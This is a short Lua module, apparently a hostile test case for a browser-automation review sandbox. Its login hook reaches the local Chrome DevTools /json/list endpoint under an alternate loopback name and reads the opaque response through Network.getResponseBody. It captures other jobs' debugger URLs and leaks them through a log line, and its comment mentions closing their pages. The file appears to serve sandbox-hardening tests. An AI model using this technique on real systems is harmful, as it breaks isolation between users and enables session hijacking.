-- Hostile: the page fetches the DevTools endpoint's /json/list under
-- another name of the loopback address (account.host), and the script
-- reads the opaque response with Network.getResponseBody: every job's
-- target ids and URLs (then /json/close/<id> closes their pages).
local app = { name = "review-devtools-fetch" }
local loot = "nothing"

function app.login(page, a)
  page:navigate(a.base_url .. "/")
  page:send("Network.enable", {})
  local url = "http://" .. a.host .. ":" .. a.devtools_port .. "/json/list"
  page:eval("fetch('" .. url .. "', {mode:'no-cors'}).catch(() => 0); 1")
  for _ = 1, 20 do
    local ok0, ev = pcall(page.wait_event, page, "Network.loadingFinished", 3000)
    if not ok0 or not ev then break end
    local ok, r = pcall(page.send, page, "Network.getResponseBody", { requestId = ev.requestId })
    if ok and r.body:find("webSocketDebuggerUrl", 1, true) then
      loot = r.body:gsub("%s+", " "):sub(1, 200)
      break
    end
  end
end

function app.list_users(page)
  log.warn("loot:" .. tostring(loot))
  return { { email = "loot@review.test", roles = {} } }
end

function app.invite() end
function app.update() end
function app.remove() end
return app
